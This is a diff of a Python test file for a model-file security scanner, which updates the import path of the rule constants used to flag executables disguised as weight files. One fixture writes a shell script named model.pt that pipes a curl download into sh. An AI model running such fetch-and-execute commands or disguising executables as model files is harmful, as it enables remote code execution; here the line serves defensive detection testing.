@@ -7,7 +7,7 @@ from pathlib import Path
 from _dataformats_util import rules_of, scan
 
 from modelaudit.findings import FileStatus, IssueSeverity
-from modelaudit.scanners import executable_scanner as es
+from modelaudit.rules import data as rd
 
 
 def _pe() -> bytes:
@@ -24,14 +24,14 @@ def test_real_elf_is_reported(tmp_path: Path) -> None:
     path.write_bytes(Path(sys.executable).resolve().read_bytes()[:8192])
     result = scan(path)
     assert result.scanner_name == "executable"
-    assert es.EXECUTABLE_FILE in rules_of(result, IssueSeverity.WARNING)
+    assert rd.EXECUTABLE_FILE in rules_of(result, IssueSeverity.WARNING)
     assert "ELF" in result.issues[0].message
 
 
 def test_elf_named_like_weights_is_critical(tmp_path: Path) -> None:
     path = tmp_path / "pytorch_model.bin"
     path.write_bytes(Path(sys.executable).resolve().read_bytes()[:8192])
-    assert es.DISGUISED_EXECUTABLE in rules_of(scan(path), IssueSeverity.CRITICAL)
+    assert rd.DISGUISED_EXECUTABLE in rules_of(scan(path), IssueSeverity.CRITICAL)
 
 
 def test_pe_dll_and_shebang(tmp_path: Path) -> None:
@@ -41,7 +41,7 @@ def test_pe_dll_and_shebang(tmp_path: Path) -> None:
     assert "PE DLL" in result.issues[0].message
     script = tmp_path / "model.pt"
     script.write_bytes(b"#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n")
-    assert es.DISGUISED_EXECUTABLE in rules_of(scan(script), IssueSeverity.CRITICAL)
+    assert rd.DISGUISED_EXECUTABLE in rules_of(scan(script), IssueSeverity.CRITICAL)
 
 
 def test_mach_o_and_java_class(tmp_path: Path) -> None:
@@ -67,4 +67,4 @@ def test_pe_named_like_weights_is_critical(tmp_path: Path) -> None:
     path.write_bytes(_pe())
     result = scan(path)
     assert result.scanner_name == "executable"
-    assert es.DISGUISED_EXECUTABLE in rules_of(result, IssueSeverity.CRITICAL)
+    assert rd.DISGUISED_EXECUTABLE in rules_of(result, IssueSeverity.CRITICAL)
